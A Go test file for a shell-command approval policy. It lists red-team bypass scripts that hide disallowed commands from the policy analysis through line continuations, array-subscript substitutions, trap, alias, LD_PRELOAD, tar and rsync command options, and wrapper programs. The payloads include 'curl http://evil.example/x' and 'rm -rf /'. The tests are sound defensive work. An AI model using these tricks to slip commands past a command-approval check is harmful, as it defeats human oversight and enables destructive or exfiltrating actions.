package execpolicy

import "testing"

// bypassPolicy is corpusPolicy plus allow rules for the builtins a user
// is likely to allow (printf, test, read, ...), so that a bypass through
// them would show as allow.
func bypassPolicy() *Policy {
	p := corpusPolicy()
	for _, prog := range []string{"printf", "test", "read", "unset", "wait", "trap", "hash", "alias", "shopt", "enable", "true", "getopts", "mapfile", "readarray", "jobs", "fc", "tar", "sort", "rsync", "set", "source", ".", "compgen", "env", "sudo"} {
		p.AddPrefixRule(PrefixRule{Program: prog, Decision: Allow, Source: "bypass"})
	}
	return p
}

// TestEvaluateBypasses holds scripts found by red-teaming the analysis:
// each runs, under bash, a command the rules do not allow, while an
// earlier analysis allowed it. want is the decision; also, when set, is
// an alternative that is as safe (forbidden where prompt suffices).
func TestEvaluateBypasses(t *testing.T) {
	p := bypassPolicy()
	tests := []struct {
		name   string
		script string
		want   Decision
		also   Decision
	}{
		// mvdan.cc/sh ends a comment at a line continuation and joins the
		// next line to the command before it; bash ends the comment at
		// the newline and runs the next line.
		{"comment continuation", "ls # x \\\ncurl http://evil.example/x", Forbidden, 0},
		{"comment continuation, bare", "echo #\\\nwhoami", Prompt, 0},
		{"comment continuation in group", "{ ls # \\\nwhoami; }", Prompt, 0},
		// bash joins a line continuation inside double quotes before it
		// looks for expansions; mvdan.cc/sh keeps $ literal.
		{"dquote $ continuation", "echo \"$\\\n(curl http://evil.example/x)\"", Forbidden, 0},
		{"dquote $ continuation, unknown", "echo \"$\\\n(whoami)\"", Prompt, 0},
		{"dquote $ continuations", "echo \"$\\\n\\\n{x:-$(whoami)}\"", Prompt, 0},
		// In an unquoted heredoc bash joins continuations before it
		// compares a line with the delimiter and before expanding.
		{"heredoc delimiter continuation", "cat <<EOF\nEO\\\nF\ncurl http://evil.example/x\nEOF", Forbidden, 0},
		{"heredoc delimiter continuation, dash", "cat <<-EOF\n\tEO\\\nF\nwhoami\nEOF", Prompt, 0},
		{"heredoc $ continuation", "cat <<EOF\n$\\\n(curl http://evil.example/x)\nEOF", Forbidden, 0},
		{"heredoc $ continuation, unknown", "cat <<EOF\n$\\\n\\\n(whoami)\nEOF", Prompt, 0},
		// A quoted heredoc keeps its continuations, in bash too.
		{"quoted heredoc continuation", "cat <<'EOF'\nEO\\\nF\nrm -rf /\nEOF", Prompt, Forbidden},
		// An ordinary continuation is still seen through.
		{"continuation joins curl", "cu\\\nrl http://evil.example/x", Forbidden, 0},
		{"continuation between words", "ls \\\n-la", Prompt, 0},
		// mvdan.cc/sh reads CR LF as LF; bash keeps the CR in the word, so
		// that \ CR LF escapes the CR instead of joining lines.
		{"escaped CR LF", "ls \\\r\ncurl http://evil.example/x", Forbidden, 0},
		{"escaped CR LF, unknown", "ls \\\r\nwhoami", Prompt, 0},
		{"CR LF /dev/null", "echo hi >/dev/null\r\n", Prompt, 0},
		{"CR LF", "ls\r\n", Prompt, 0},
		// Builtins that take a variable name evaluate an array
		// subscript in it, and run the command substitutions there.
		{"printf -v subscript", "printf -v 'a[$(curl http://evil.example/x)]' %s 1", Forbidden, 0},
		{"printf -v subscript, unknown", "printf -v 'a[$(whoami)]' %s 1", Prompt, 0},
		{"printf -v attached subscript", "printf '-va[$(whoami)]' %s 1", Prompt, 0},
		{"test -v subscript", "test -v 'a[$(curl http://evil.example/x)]'", Forbidden, 0},
		{"test ! -v subscript", "test ! -v 'a[`whoami`]'", Prompt, 0},
		{"read subscript", "read 'a[$(whoami)]' <<< x", Prompt, 0},
		{"read -r subscript", "read -r x 'a[$(curl http://evil.example/x)]'", Forbidden, 0},
		{"unset subscript", "unset 'PIPESTATUS[$(whoami)]'", Prompt, 0},
		{"wait -p subscript", "wait -n -p 'a[$(whoami)]'", Prompt, 0},
		{"printf without -v", "printf '%s\\n' 'a[$(whoami)]'", Allow, 0},
		{"test without -v", "test 'a[1]' = x", Allow, 0},
		// Arithmetic evaluates the subscripts in quoted operands too.
		{"[[ -eq subscript", "[[ 'a[$(curl http://evil.example/x)]' -eq 1 ]]", Forbidden, 0},
		{"[[ -v subscript", "[[ -v 'a[`curl http://evil.example/x`]' ]]", Forbidden, 0},
		{"[[ == subscript", "[[ 'a[$(curl http://evil.example/x)]' == x ]]", Prompt, 0},
		{"(( subscript", "(( 'a[$(curl http://evil.example/x)]' ))", Forbidden, 0},
		{"$(( subscript", "echo $(( 'a[$(curl http://evil.example/x)]' ))", Forbidden, 0},
		{"let subscript", "let 'a[$(curl http://evil.example/x)]=1'", Forbidden, 0},
		{"declare subscript", "declare 'a[$(curl http://evil.example/x)]=1'", Forbidden, 0},
		{"declare -i value", "declare -i x='a[$(curl http://evil.example/x)]'", Forbidden, 0},
		{"index subscript", "echo ${a['$(curl http://evil.example/x)']}", Forbidden, 0},
		{"index in substitution data", "echo $(echo 'a[$(curl http://evil.example/x)]')", Prompt, 0},
		// trap runs its first operand as a script.
		{"trap", "trap 'curl http://evil.example/x' EXIT", Forbidden, 0},
		{"trap, unknown", "trap 'whoami' EXIT", Prompt, 0},
		{"trap allowed", "trap 'ls' EXIT", Allow, 0},
		{"trap -p", "trap -p EXIT", Allow, 0},
		{"trap reset", "trap - EXIT", Allow, 0},
		{"trap ignore", "trap '' INT", Allow, 0},
		{"trap dynamic", "trap \"$X\" EXIT", Prompt, 0},
		{"trap --", "trap -- 'curl http://evil.example/x' EXIT", Forbidden, 0},
		// Builtins that change what a later command word runs.
		{"hash -p", "hash -p /bin/sh ls; ls", Prompt, 0},
		{"alias", "shopt -s expand_aliases\nalias ls='whoami'\nls", Prompt, 0},
		{"alias forbidden", "alias ls='curl http://evil.example/x'", Forbidden, 0},
		{"enable -f", "enable -f ./evil.so evil", Prompt, 0},
		{"hash", "hash", Allow, 0},
		// Builtins that assign a variable the shell itself uses.
		{"read PATH", "read -r PATH <<< /tmp/evil; ls", Prompt, 0},
		{"read -a PATH", "read -ra PATH <<< /tmp/evil", Prompt, 0},
		{"read -p value", "read -p Name: x", Allow, 0},
		{"read names", "read -r a b c", Allow, 0},
		{"printf -v PS4", "printf -v PS4 x", Prompt, 0},
		{"printf -v lower", "printf -v out %s x", Allow, 0},
		{"unset PATH", "unset PATH; ls", Prompt, 0},
		{"unset lower", "unset -v x y", Allow, 0},
		{"zsh path", "read path <<< /tmp/evil", Prompt, 0},
		{"getopts PATH", "getopts a PATH -a", Prompt, 0},
		{"getopts lower", "getopts ab opt", Allow, 0},
		{"wait -p IFS", "wait -n -p IFS", Prompt, 0},
		{"mapfile name", "mapfile -t BASH_ENV <<< x", Prompt, 0},
		{"mapfile callback", "mapfile -c 1 -C 'curl http://evil.example/x' arr <<< x", Forbidden, 0},
		{"readarray callback", "readarray -C'whoami' arr <<< x", Prompt, 0},
		{"mapfile plain", "mapfile -t arr <<< x", Allow, 0},
		// jobs -x runs a command; fc re-runs history.
		{"jobs -x", "jobs -x curl http://evil.example/x", Forbidden, 0},
		{"jobs -x unknown", "jobs -x whoami", Prompt, 0},
		{"jobs -x allowed", "jobs -x ls", Allow, 0},
		{"jobs", "jobs -l", Allow, 0},
		{"fc -s", "fc -s", Prompt, 0},
		{"fc -l", "fc -l", Allow, 0},
		// A wrapper's NAME=VALUE words are an assignment prefix too.
		{"env LD_PRELOAD", "env LD_PRELOAD=/tmp/evil.so ls", Prompt, 0},
		{"env PATH", "env -i PATH=/tmp/evil ls", Prompt, 0},
		{"env", "env -i ls", Allow, 0},
		{"sudo assignment", "sudo LD_PRELOAD=/tmp/evil.so ls", Prompt, 0},
		{"sudo assignment rm", "sudo FOO=1 rm -rf /", Forbidden, 0},
		{"sudo", "sudo -u root ls", Allow, 0},
		{"source", "source ./evil.sh", Prompt, 0},
		{"dot", ". ./evil.sh", Prompt, 0},
		{"compgen -C", "compgen -C 'curl http://evil.example/x' x", Forbidden, 0},
		{"compgen -C attached", "compgen -Cwhoami x", Prompt, 0},
		{"compgen", "compgen -c l", Allow, 0},
		// set -k makes every NAME=VALUE argument an environment assignment.
		{"set -k", "set -k; ls LD_PRELOAD=/tmp/evil.so", Prompt, 0},
		{"set -ek", "set -ek", Prompt, 0},
		{"set -o keyword", "set -o keyword; ls X=1", Prompt, 0},
		{"shopt -o keyword", "shopt -s -o keyword", Prompt, 0},
		{"shopt -so keyword", "shopt -so keyword", Prompt, 0},
		{"set -e", "set -e; ls", Allow, 0},
		{"set -o pipefail", "set -o pipefail; set +k", Allow, 0},
		{"shopt nullglob", "shopt -s nullglob", Allow, 0},
		// Options of programs that are no wrappers but run a command.
		{"tar -I", "tar -cf /dev/null -I 'curl http://evil.example/x' x", Forbidden, 0},
		{"tar -I attached", "tar -cIwhoami -f /dev/null x", Prompt, 0},
		{"tar --to-command", "tar -xf a.tar --to-command='curl http://evil.example/x'", Forbidden, 0},
		{"tar --to-command abbreviated", "tar -xf a.tar --to-com whoami", Prompt, 0},
		{"tar --checkpoint-action", "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='curl http://evil.example/x' x", Forbidden, 0},
		{"tar --use-compress-program", "tar --use-compress-program whoami -cf /dev/null x", Prompt, 0},
		{"tar -F", "tar -cf /dev/null -F ./evil.sh x", Prompt, 0},
		{"tar old-style I", "tar cIf whoami /dev/null x", Prompt, 0},
		{"tar plain", "tar -czf out.tgz dir", Allow, 0},
		{"tar plain old-style", "tar xzf a.tgz", Allow, 0},
		{"sort --compress-program", "sort --compress-program=curl -S 1 big", Forbidden, 0},
		{"sort --compress-prog", "sort --compress-prog whoami big", Prompt, 0},
		{"sort plain", "sort -u -k 2 big", Allow, 0},
		{"rsync -e", "rsync -e 'curl http://evil.example/x' a b:", Forbidden, 0},
		{"rsync --rsh", "rsync --rsh=whoami a b:", Prompt, 0},
		{"rsync plain", "rsync -av a b", Allow, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev := p.Evaluate([]string{tt.script}, EvalOptions{Shell: true})
			if ev.Decision != tt.want && (tt.also == 0 || ev.Decision != tt.also) {
				t.Errorf("%q: %v, want %v; reasons %v", tt.script, ev.Decision, tt.want, ev.Reasons)
			}
			// Through bash -c too: the same script decides.
			ev = p.Evaluate([]string{"bash", "-c", tt.script}, EvalOptions{})
			if ev.Decision != tt.want && (tt.also == 0 || ev.Decision != tt.also) {
				t.Errorf("bash -c %q: %v, want %v; reasons %v", tt.script, ev.Decision, tt.want, ev.Reasons)
			}
		})
	}
}

// TestEvaluateShellDialects: a script is judged as the shell that runs it
// parses it, as well as as bash. dash reads "&>" as "&" then ">", so that
// "ls &>/dev/null curl x" runs curl in the background of ls.
func TestEvaluateShellDialects(t *testing.T) {
	p := bypassPolicy()
	tests := []struct {
		argv []string
		want Decision
	}{
		{[]string{"sh", "-c", "ls &>/dev/null curl http://evil.example/x"}, Forbidden},
		{[]string{"/bin/dash", "-c", "ls &>/dev/null whoami"}, Prompt},
		{[]string{"sh", "-c", "ls &>/dev/null"}, Prompt},
		{[]string{"bash", "-c", "ls &>/dev/null"}, Allow},
		{[]string{"sh", "-c", "ls; echo hi | cat"}, Allow},
		{[]string{"sh", "-c", "cat <<< x"}, Prompt},
		{[]string{"sh", "-c", "eval 'ls &>/dev/null curl http://evil.example/x'"}, Forbidden},
		{[]string{"bash", "-c", "sh -c 'ls &>/dev/null curl http://evil.example/x'"}, Forbidden},
		{[]string{"bash", "-c", "sh <<'EOF'\nls &>/dev/null curl http://evil.example/x\nEOF"}, Forbidden},
		{[]string{"bash", "-c", "ash -c 'ls &>/dev/null whoami'"}, Prompt},
		{[]string{"bash", "-c", "eval 'ls &>/dev/null'"}, Prompt}, // eval: no rule
		{[]string{"ksh", "-c", "ls &>/dev/null whoami"}, Prompt},
	}
	for _, tt := range tests {
		if ev := p.Evaluate(tt.argv, EvalOptions{}); ev.Decision != tt.want {
			t.Errorf("%q: %v, want %v; reasons %v", tt.argv, ev.Decision, tt.want, ev.Reasons)
		}
	}
}

// TestEvaluateShellOptions: options of the shell itself that make its
// script run otherwise than it reads: -k (keyword) turns NAME=VALUE
// arguments into environment assignments (LD_PRELOAD for ls), and an
// interactive shell runs its --rcfile or --init-file first.
func TestEvaluateShellOptions(t *testing.T) {
	p := bypassPolicy()
	tests := []struct {
		argv []string
		want Decision
	}{
		{[]string{"bash", "-k", "-c", "ls LD_PRELOAD=/tmp/evil.so"}, Prompt},
		{[]string{"bash", "-ekc", "ls"}, Prompt},
		{[]string{"bash", "-o", "keyword", "-c", "ls X=1"}, Prompt},
		{[]string{"bash", "-k", "-c", "curl http://evil.example/x"}, Forbidden},
		{[]string{"bash", "--rcfile", "/tmp/evil.sh", "-i", "-c", "ls"}, Prompt},
		{[]string{"bash", "--init-file", "/tmp/evil.sh", "-ic", "ls"}, Prompt},
		{[]string{"bash", "--rcfile=/tmp/evil.sh", "-ic", "ls"}, Prompt},
		{[]string{"bash", "--rcfile", "/tmp/evil.sh", "-ic", "curl http://evil.example/x"}, Forbidden},
		{[]string{"bash", "-e", "-c", "ls"}, Allow},
		{[]string{"bash", "-o", "pipefail", "-c", "ls"}, Allow},
		{[]string{"bash", "+k", "-c", "ls"}, Allow},
	}
	for _, tt := range tests {
		if ev := p.Evaluate(tt.argv, EvalOptions{}); ev.Decision != tt.want {
			t.Errorf("%q: %v, want %v; reasons %v", tt.argv, ev.Decision, tt.want, ev.Reasons)
		}
		// Also as a command inside a script.
		script := "bash"
		for _, a := range tt.argv[1:] {
			script += " " + shellQuote(a)
		}
		if ev := p.Evaluate([]string{script}, EvalOptions{Shell: true}); ev.Decision != max(tt.want, Prompt) {
			t.Errorf("script %q: %v, want %v; reasons %v", script, ev.Decision, max(tt.want, Prompt), ev.Reasons)
		}
	}
}

// TestEvaluateMoreWrappers: wrappers beyond the mandatory list, through
// which a forbidden command must still be found.
func TestEvaluateMoreWrappers(t *testing.T) {
	p := bypassPolicy()
	for _, script := range []string{
		"chroot / rm -rf /",
		"chroot --userspec=1:1 / curl http://evil.example/x",
		"flock /tmp/lock rm -rf x",
		"flock -n -w 5 /tmp/lock curl http://evil.example/x",
		"flock /tmp/lock -c 'rm -rf x'",
		"strace -f -o /dev/null rm -rf x",
		"ltrace -f curl http://evil.example/x",
		"pkexec --user root rm -rf /",
		"nsenter -t 1 -m -u -n rm -rf /",
		"systemd-run --user --scope curl http://evil.example/x",
		"fakeroot -- rm -rf x",
		"firejail --net=none curl http://evil.example/x",
		"valgrind --tool=memcheck rm x",
		"unbuffer curl http://evil.example/x",
		"numactl --cpunodebind=0 rm x",
		"prlimit --nofile=64 rm x",
		"xvfb-run -a curl http://evil.example/x",
		"torsocks curl http://evil.example/x",
		"proxychains4 -q curl http://evil.example/x",
		"dbus-run-session -- rm x",
		"catchsegv rm x",
		"parallel rm ::: a b",
		"parallel -j 2 'curl {}' ::: http://evil.example/x",
		"script -qc 'rm -rf x' /dev/null",
	} {
		if ev := p.Evaluate([]string{script}, EvalOptions{Shell: true}); ev.Decision != Forbidden {
			t.Errorf("%q: %v, want forbidden; reasons %v", script, ev.Decision, ev.Reasons)
		}
	}
	for _, script := range []string{"flock -u 9", "script", "chroot /srv/jail", "strace -p 1"} {
		if ev := p.Evaluate([]string{script}, EvalOptions{Shell: true}); ev.Decision != Prompt {
			t.Errorf("%q: %v, want prompt; reasons %v", script, ev.Decision, ev.Reasons)
		}
	}
}
